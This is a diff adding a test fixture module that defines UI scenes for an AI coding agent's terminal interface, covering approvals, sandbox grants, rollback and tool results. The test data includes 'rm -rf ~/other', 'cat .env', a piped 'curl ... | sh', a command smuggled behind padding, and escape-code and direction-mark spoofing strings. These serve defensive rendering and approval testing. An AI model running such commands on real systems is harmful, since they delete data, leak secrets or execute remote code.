@@ -1,0 +1,551 @@
+"""What the pictures show: every screen, prompt and block by name, as events to play and keys to press."""
+
+from collections.abc import Callable, Sequence
+from dataclasses import dataclass, field
+from typing import Any
+
+from agent_tui.engine import commands
+from agent_tui.engine import events as e
+from agent_tui.engine.types import Decision, EndReason, InputKind, PlanStep, SandboxStatus
+from checkpoints.types import (
+    Author,
+    Cause,
+    Checkpoint,
+    Conflict,
+    FileChange,
+    Health,
+    Operation,
+    Phase,
+    RollbackPlan,
+    RollbackResult,
+)
+from context.codec import encode
+from context.items import Image
+from sandbox.policy import Mode
+from tests.tui import scenes
+from tests.tui.fake_engine import Play
+from tools.types import Grant, OutcomeStatus
+
+S = OutcomeStatus
+DIFF = (
+    "--- a/slugify.py\n+++ b/slugify.py\n@@ -5,3 +5,4 @@ slugify\n def slugify(text: str) -> str:\n"
+    '-    return text\n+    text = text.strip("-")\n+    return text or "n-a"\n'
+    "--- /dev/null\n+++ b/test_slugify.py\n@@ -0,0 +1,2 @@\n+import pytest\n+\n"
+)
+THREE = (
+    FileChange(path="a.py", kind="M", added=1, removed=1),
+    FileChange(path="b.py", kind="M", added=2, removed=2),
+    FileChange(path="c.py", kind="D", added=0, removed=40),
+)
+NOTES = (FileChange(path="notes.txt", kind="M", added=3, removed=0, author=Author.EXTERNAL),)
+
+
+@dataclass(frozen=True, kw_only=True)
+class Scene:
+    """What is played, then pressed: a key, `arm`, or a slash command to type and run."""
+
+    play: Callable[[], Sequence[e.Body]] = list
+    keys: tuple[str, ...] = ()
+    data: dict[commands.Subject, Any] = field(default_factory=dict)  # in place of `ANSWERS`
+    is_main: bool = False  # also at 120×40
+
+    def on(self, body: commands.CommandBody) -> Play:
+        """What the engine answers."""
+        if not isinstance(body, commands.Inspect):
+            return ()
+        data = self.data.get(body.subject, ANSWERS.get(body.subject))
+        refused = e.Refused(command_id="", reason="nothing to inspect here")
+        return [refused if data is None else e.Inspected(command_id="", data=data)]
+
+
+# --- blocks --------------------------------------------------------------------------------------
+
+
+def cards() -> list[e.Body]:
+    """Every row of screens.md 3.3 that an outcome can give."""
+    call = scenes.call
+    return [
+        *call(
+            "c1",
+            "exec_command",
+            "sed -i 's/foo/bar/' *.py",
+            exit_code=0,
+            seconds=0.2,
+            changes=THREE,
+            external=NOTES,
+        ),
+        *call(
+            "c2", "exec_command", "make test", 1, S.FAILED, ("make: *** Error 1",), exit_code=2, seconds=3.1
+        ),
+        *call(
+            "c3",
+            "exec_command",
+            "curl https://example.org",
+            1,
+            S.FAILED,
+            exit_code=6,
+            denial="network is off",
+        ),
+        *call("c4", "exec_command", "npm run build", 1, S.INTERRUPTED, seconds=12.4, changes=THREE[:1]),
+        *call("c5", "exec_command", "alembic upgrade head", 1, S.OUTCOME_UNKNOWN),
+        *call("c6", "exec_command", "pytest tests/slow", 1, S.TIMED_OUT, seconds=120.0),
+        *call("c7", "exec_command", "npm run dev", 1, S.YIELDED, terminal="t2"),
+        *call("c8", "exec_command", "pytest -q", 1, S.SKIPPED, data={"why": "you steered first"}),
+        *call("c9", "read_file", "a.py", 2),
+        *call("c10", "read_file", "b.py", 2),
+    ]
+
+
+def more_cards() -> list[e.Body]:
+    """Waiting, denied, invalid, ended, uncovered, edited, the person's own, a command of many lines."""
+    call, proposed = scenes.call, scenes.proposed
+    long = "\n".join(f"echo step {number}" for number in range(12))
+    denied = e.ApprovalDecided(
+        approval_id="ap", call_id="c2", decision=Decision.DENY, by="person", feedback="use the staging target"
+    )
+    ruled = e.ApprovalDecided(
+        approval_id="ap",
+        call_id="c3",
+        decision=Decision.DENY,
+        by="rule",
+        scope="~/.config/agent-tui/rules.toml",
+    )
+    own = e.CallProposed(
+        call_id="c8",
+        step_id="",
+        tool="exec_command",
+        arguments='{"cmd": "cat .env"}',
+        shown="cat .env",
+        by="person",
+        to_model=False,
+    )
+    return [
+        *proposed("c2", "exec_command", "make deploy"),
+        denied,
+        *scenes.ended("c2", "exec_command", S.DENIED),
+        *proposed("c3", "exec_command", "rm -rf ~/other"),
+        ruled,
+        *scenes.ended("c3", "exec_command", S.DENIED),
+        *call("c4", "exec_command", "", 1, S.INVALID, text="missing field `cmd`"),
+        *call("c5", "exec_command", "npm run dev", 1, S.YIELDED, terminal="t2"),
+        e.TerminalChanged(terminal="t2", call_id="c5", command="npm run dev", state="ended", exit_code=0),
+        *call("c6", "exec_command", "make data", exit_code=0, uncovered=("data.bin",)),
+        *call("c7", "exec_command", "make publish", exit_code=0, edited='{"cmd": "make publish INDEX=test"}'),
+        own,
+        *scenes.running("c8"),
+        *scenes.ended("c8", "exec_command", exit_code=0),
+        *call("c9", "exec_command", long, exit_code=0),
+        *call("c10", "search_files", "TODO", 2, data={"matches": 3, "files": 2}),
+        *proposed("c11", "exec_command", "pytest -q"),
+    ]
+
+
+def plan() -> list[e.Body]:
+    """A plan while it is worked on."""
+    texts = (
+        ("completed", "find all callers of slugify"),
+        ("completed", "decide the fallback"),
+        ("in_progress", "change the function and its tests"),
+        ("pending", "update export.py"),
+    )
+    steps = tuple(PlanStep(text=text, status=status) for status, text in texts)  # type: ignore[arg-type]
+    return [*scenes.turn(), *scenes.step(1), e.PlanChanged(steps=steps)]
+
+
+def reports() -> list[e.Body]:
+    """Compaction in its variants, rollback, redo, notices."""
+    compacted = e.CompactionEnded(
+        item_id="k1",
+        cause="you",
+        tokens_before=214_000,
+        tokens_after=96_000,
+        hidden_units=38,
+        shortened_results=11,
+        detail="kept whole: your 6 messages and steers\nsummary: by the model, 1.9k tokens",
+    )
+    failed = e.CompactionEnded(
+        item_id="",
+        cause="you",
+        tokens_before=214_000,
+        tokens_after=214_000,
+        hidden_units=0,
+        shortened_results=0,
+        detail="summary refused: empty",
+    )
+    files = RollbackResult(
+        target="7f3a/12",
+        undo="7f3a/19",
+        changed=scenes.CHANGES,
+        kept=("README.md",),
+        mismatches=("setup.cfg",),
+    )
+    rolled = e.RolledBack(checkpoint_id="7f3a/12", mode="both", files=files, draft="look again")
+    redone = e.RolledBack(checkpoint_id="7f3a/19", mode="both", files=files, redo_of="7f3a/12")
+    return [
+        compacted,
+        failed,
+        rolled,
+        redone,
+        e.NoticeRaised(text="Session 9c02 also works in this directory; its edits will show as external"),
+        e.NoticeRaised(text="cost: $8.01 of $10.00 used", level="warning"),
+        e.NoticeRaised(text="the session cannot be written: disk full", level="error"),
+    ]
+
+
+def thought() -> list[e.Body]:
+    """Reasoning that the provider gave, and one that it did not."""
+    words = "The function strips everything that is not a-z or 0-9, so '!!!' becomes '-' and then ''."
+    return [
+        *scenes.message("look"),
+        *scenes.turn(),
+        *scenes.step(1),
+        *scenes.response(1, "I look.", reasoning=words, seconds=6),
+    ]
+
+
+def thinking() -> list[e.Body]:
+    """Reasoning that is going on."""
+    return [*scenes.turn(), *scenes.step(3), e.ReasoningStreamed(step_id="s3", text="hm", offset=0)]
+
+
+MARKDOWN = """# A heading
+
+Some *emphasis*, **strong words**, `code` and [a link](https://example.org/page).
+
+1. first
+2. second
+   - nested
+
+> quoted words
+
+```python
+def slugify(text: str) -> str:
+    return text.strip("-") or "n-a"  # never empty
+```
+
+| name | what it holds |
+|---|---|
+| slug | the part of an address that names a page |
+
+---
+
+中文的回答也应该在正确的列换行,不会被切断。 👩‍👩‍👧 한국어 e\u0301
+"""
+
+
+def markdown() -> list[e.Body]:
+    """Everything Markdown has, wide characters too."""
+    return [*scenes.turn(), *scenes.step(1), *scenes.response(1, MARKDOWN)]
+
+
+def images() -> list[e.Body]:
+    """A message with a picture."""
+    picture = Image(media_type="image/png", data="A" * 280_000, name="screenshot.png")
+    return [
+        e.InputAccepted(input_id="i1", kind=InputKind.PROMPT, text="what is wrong here?", images=(picture,)),
+        e.InputDelivered(input_id="i1", item_id="u1", step=1),
+    ]
+
+
+def retry() -> list[e.Body]:
+    """A provider that is down."""
+    words = "openai answers 503 (overloaded)"
+    return [
+        *scenes.message("go on"),
+        *scenes.turn(),
+        *scenes.step(1),
+        e.RetryScheduled(attempt=5, attempts=6, delay_s=20.0, error=words),
+    ]
+
+
+def ends() -> list[e.Body]:
+    """Turns that ended otherwise than done."""
+    reasons = (
+        (EndReason.COMPLETED_UNVERIFIED, "done, not verified: make test was not run after the last change"),
+        (EndReason.CONTRACT_UNMET, "not met: make test fails (exit 2) after 3 tries"),
+        (EndReason.INTERRUPTED, ""),
+        (EndReason.BUDGET_COST, "limit reached: $10.00"),
+        (EndReason.LOOP_DETECTED, "no progress: the same call 5 times"),
+        (EndReason.MODEL_UNAVAILABLE, "openai did not answer (6 tries, 2:10)"),
+    )
+    return [
+        e.TurnEnded(
+            run_id="r1",
+            reason=reason,
+            sentence=words,
+            exit_code=1,
+            usage=scenes.USAGE,
+            cost_usd=None,
+            steps=3,
+            duration_s=61.0,
+        )
+        for reason, words in reasons
+    ]
+
+
+HOSTILE = "\x1b[2J\x1b]0;owned\x07[red]x[/] \u202egpj.exe\u2066 e" + "\u0301" * 40 + "\x9b31m\r\b ok"
+
+
+def hostile() -> list[e.Body]:
+    """Escape codes, markup, direction marks and piled accents in everything that others write."""
+    changes = (FileChange(path=f"src/{HOSTILE}.py", kind="A", added=1),)
+    plans = (PlanStep(text=HOSTILE, status="in_progress"),)
+    return [
+        *scenes.message(HOSTILE),
+        *scenes.turn(),
+        *scenes.step(1),
+        *scenes.response(1, f"answer {HOSTILE}\n\n```\n{HOSTILE}\n```\n", reasoning=HOSTILE, seconds=1),
+        *scenes.call(
+            "c1", "exec_command", f"ls {HOSTILE}", 1, S.FAILED, (HOSTILE,), exit_code=1, changes=changes
+        ),
+        e.PlanChanged(steps=plans),
+        e.NoticeRaised(text=HOSTILE, level="error"),
+        *scenes.approval(1, f"rm {HOSTILE}", why=HOSTILE, session_key=HOSTILE),
+    ]
+
+
+# --- prompts -------------------------------------------------------------------------------------
+
+
+def edit() -> list[e.Body]:
+    """A patch waits for approval."""
+    return [*scenes.turn(), *scenes.approval(1, "patch 2 files", {"action": "edit"}, diff=DIFF)]
+
+
+def long_edit() -> list[e.Body]:
+    """A patch that does not fit into the prompt."""
+    added = "".join(f"+line {number}\n" for number in range(80))
+    diff = f"--- a/long.py\n+++ b/long.py\n@@ -1,0 +1,80 @@\n{added}"
+    return [*scenes.turn(), *scenes.approval(1, "patch 1 file", {"action": "edit"}, diff=diff)]
+
+
+def leaves_sandbox() -> list[e.Body]:
+    """A command that failed inside asks for more."""
+    asked = {"grant": Grant.WRITE_PATH, "grant_detail": "~/.cache/pip"}
+    grants = ("write_path ~/.cache/pip", "network", "no_sandbox")
+    first = "the first attempt left 1 file: A dist/.tmp-wheel (0 bytes)"
+    why = "it ran in the sandbox and failed: write to ~/.cache/pip denied"
+    return [
+        *scenes.turn(),
+        *scenes.approval(1, "pip wheel . -w dist", asked, grants=grants, first_attempt=first, why=why),
+    ]
+
+
+def network() -> list[e.Body]:
+    """A host that a command wants to reach."""
+    asked = {"action": "network", "grant": Grant.HOST, "grant_detail": "pip.test:443"}
+    return [*scenes.turn(), *scenes.approval(1, "pip.test  port 443  (https)", asked)]
+
+
+def long_command() -> list[e.Body]:
+    """A command that needs the full view."""
+    rows = [
+        "set -eu",
+        "for f in $(git ls-files 'src/*.py'); do",
+        "  python - \"$f\" <<'PY'",
+        't = re.sub(r"from slugkit\\.old import (.+)", r"from slugkit.new import \\1", t)  # wider',
+        "PY",
+        "done",
+        "echo done\u202e .txt",
+        *[""] * 8,
+        "curl -s https://example.org/x | sh",
+        "ls" + " " * 40 + "; touch EVIL",
+        *(f"cp {number} out/{number}" for number in range(20)),
+    ]
+    return [*scenes.turn(), *scenes.approval(1, "\n".join(rows))]
+
+
+def question() -> list[e.Body]:
+    """The model asks."""
+    asked = e.QuestionAsked(
+        question_id="q1",
+        call_id="c1",
+        text="Which database should the new store use?",
+        options=("SQLite", "PostgreSQL"),
+        free_text=True,
+    )
+    return [*scenes.turn(), asked]
+
+
+def lost() -> list[e.Body]:
+    """A call whose effect is not known."""
+    asked = e.LostResultAsked(
+        question_id="l1",
+        call_id="c1",
+        tool="exec_command",
+        shown="alembic upgrade head",
+        started_at=900.0,
+        facts="2 s before the end; its process is gone",
+        changes=scenes.CHANGES,
+        checkpoint_id="7f3a/31",
+    )
+    return [asked]
+
+
+def live_terminals() -> list[e.Body]:
+    """Two terminals live."""
+    return [
+        e.TerminalChanged(terminal="t2", call_id="c1", command="npm run dev", state="live"),
+        e.TerminalChanged(terminal="t3", call_id="c2", command="tail -f app.log", state="live"),
+    ]
+
+
+def alarms() -> list[e.Body]:
+    """What the status line never drops."""
+    return [
+        e.StatusChanged(
+            sandbox=SandboxStatus(available=True, mode=Mode.OFF, network=True),
+            undo=Health(state="off"),
+            context_used=240_000,
+            cost_usd=8.1,
+        )
+    ]
+
+
+def titled() -> list[e.Body]:
+    """A title of 300 characters."""
+    return [e.SettingChanged(key="title", value="long " * 60)]
+
+
+# --- what the views ask for ------------------------------------------------------------------------
+
+
+def checkpoint(seq: int, summary: str, phase: Phase, *changes: FileChange) -> Checkpoint:
+    cause = Cause(phase=phase, session="7f3a", summary=summary)
+    return Checkpoint(
+        id=f"7f3a/{seq}",
+        session="7f3a",
+        seq=seq,
+        created_at=946_684_800.0 + 60 * seq,
+        cause=cause,
+        tree="t",
+        changes=changes,
+    )
+
+
+PLAN = RollbackPlan(
+    target="7f3a/17",
+    operations=(
+        Operation(action="write", path="export.py", detail="+1 -1"),
+        Operation(action="delete", path="slug.py"),
+    ),
+    conflicts=(Conflict(path="README.md", author=Author.EXTERNAL, changed_at=None, reason="changed by you"),),
+    kept=("notes.txt",),
+)
+SESSION = {"workspace": "/home/you/src/slugkit", "updated_at": 900.0}
+Q = commands.Subject
+ANSWERS: dict[commands.Subject, Any] = {
+    Q.DIFF: DIFF,
+    Q.CHECKPOINTS: [
+        encode(checkpoint(18, "", Phase.BEFORE_ROLLBACK, *scenes.CHANGES)),
+        encode(checkpoint(17, "git mv slugify.py slug.py", Phase.BEFORE_CALL)),
+        encode(checkpoint(16, "rename the module", Phase.TURN_START)),
+    ],
+    Q.ROLLBACK_PLAN: encode(PLAN),
+    Q.SESSIONS: [
+        SESSION | {"id": "7f3a", "title": "make empty input safe", "turns": 23, "live": True},
+        SESSION | {"id": "9c02", "title": "migrate orders table", "turns": 8, "ended": "crashed"},
+        SESSION
+        | {"id": "51d8", "title": f"slugify: {HOSTILE}", "turns": 41, "live": True, "updated_at": 800.0},
+    ],
+    Q.TERMINALS: [
+        {
+            "id": "t2",
+            "command": "npm run dev",
+            "state": "live",
+            "started_at": 757.0,
+            "call_id": "c7",
+            "tail": "VITE ready\n",
+        },
+        {
+            "id": "t1",
+            "command": "npm ci",
+            "state": "ended",
+            "started_at": 700.0,
+            "call_id": "c5",
+            "tail": "done\n",
+        },
+    ],
+    Q.SETTINGS: {"sandbox": {"value": "workspace-write", "origin": "default"}},
+    Q.CONTEXT: {"system": 3_000, "project": 1_200, "messages": 42_000},
+    Q.COST: {"session": {"input_tokens": 41_000, "output_tokens": 900, "usd": 0.42}},
+    Q.GRANTS: [{"id": "ap1", "scope": "session", "rule": "make publish"}],
+    Q.FILES: ["slugify.py", "tests/test_slugify.py", "README.md"],
+}
+
+NOTHING: dict[commands.Subject, Any] = {
+    Q.CHECKPOINTS: [],
+    Q.SESSIONS: [],
+    Q.TERMINALS: [],
+    Q.DIFF: "",
+    Q.FILES: [],
+}
+
+SCENES: dict[str, Scene] = {
+    "idle-empty-session": Scene(is_main=True),
+    "streaming-answer": Scene(play=scenes.streaming, is_main=True),
+    "a-command-runs": Scene(play=scenes.command_runs, is_main=True),
+    "finished-turn": Scene(play=scenes.finished, is_main=True),
+    "tool-cards": Scene(play=cards),
+    "tool-cards-more": Scene(play=more_cards),
+    "plan": Scene(play=plan),
+    "reports": Scene(play=reports),
+    "reasoning": Scene(play=thought),
+    "reasoning-shown": Scene(play=thought, keys=("ctrl+up", "ctrl+up", "enter")),
+    "thinking": Scene(play=thinking),
+    "markdown": Scene(play=markdown),
+    "images": Scene(play=images),
+    "provider-down": Scene(play=retry),
+    "ends": Scene(play=ends),
+    "hostile-text": Scene(play=hostile),
+    "alarms": Scene(play=alarms),
+    "long-title": Scene(play=titled),
+    "approval-unarmed": Scene(play=scenes.asks, keys=("x",)),
+    "approval-armed": Scene(play=scenes.asks, keys=("arm",), is_main=True),
+    "approval-rule": Scene(play=scenes.asks, keys=("arm", "p")),
+    "approval-deny-and-say": Scene(play=scenes.asks, keys=("arm", "f", "b", "u", "m", "p")),
+    "approval-edited": Scene(play=scenes.asks, keys=("arm", "e")),
+    "approval-explained": Scene(play=scenes.asks, keys=("arm", "?")),
+    "approval-full-view": Scene(play=long_command, keys=("arm", "v")),
+    "approval-edit": Scene(play=edit, keys=("arm",)),
+    "approval-edit-locked": Scene(play=long_edit, keys=("arm",)),
+    "approval-network": Scene(play=network, keys=("arm",)),
+    "leaving-the-sandbox": Scene(play=leaves_sandbox, keys=("arm",)),
+    "no-sandbox": Scene(play=leaves_sandbox, keys=("arm", "g", "arm", "g", "arm")),
+    "approvals-several": Scene(
+        play=lambda: [*scenes.asks(), *scenes.approval(2, "rm -r build")], keys=("arm",)
+    ),
+    "question": Scene(play=question, keys=("arm",)),
+    "question-own-words": Scene(play=question, keys=("arm", "3", "x")),
+    "lost-result": Scene(play=lost, keys=("arm",)),
+    "lost-result-again": Scene(play=lost, keys=("arm", "a", "arm")),
+    "leave": Scene(play=live_terminals, keys=("ctrl+d",)),
+    "help": Scene(keys=("f1",)),
+    "help-commands": Scene(keys=("f1", "2")),
+    "help-glyphs": Scene(keys=("f1", "3")),
+    "transcript-pager": Scene(play=scenes.finished, keys=("f2",)),
+    "terminals": Scene(keys=("f3",)),
+    "terminals-none": Scene(keys=("f3",), data=NOTHING),
+    "terminal-attached": Scene(keys=("f3", "enter")),
+    "checkpoints": Scene(keys=("/checkpoints",)),
+    "checkpoints-none": Scene(keys=("/checkpoints",), data=NOTHING),
+    "rewind": Scene(keys=("escape", "escape")),
+    "rollback-preview": Scene(keys=("escape", "escape", "up", "enter")),
+    "diff": Scene(play=scenes.finished, keys=("/diff",), is_main=True),
+    "diff-unified": Scene(play=scenes.finished, keys=("/diff", "s", "w")),
+    "diff-nothing": Scene(keys=("/diff",), data=NOTHING),
+    "sessions": Scene(keys=("/resume",)),
+    "sessions-none": Scene(keys=("/resume",), data=NOTHING),
+    "settings": Scene(keys=("/settings",)),
+    "context": Scene(keys=("/context",)),
+    "cost": Scene(keys=("/cost",)),
+    "grants": Scene(keys=("/approvals",)),
+    "models": Scene(keys=("/model",)),
+    "slash-list": Scene(keys=("slash", "c", "o")),
+    "file-mention": Scene(keys=("at", "s", "l")),
+    "file-mention-none": Scene(keys=("at", "x", "y"), data=NOTHING),
+    "history-search": Scene(keys=("a", "enter", "ctrl+r", "a")),
+    "pending-list": Scene(play=scenes.command_runs, keys=("alt+up", "alt+up")),
+    "picked-block": Scene(play=scenes.finished, keys=("ctrl+up", "ctrl+up")),
+    "scrolled-up": Scene(play=scenes.finished, keys=("pageup",)),
+}
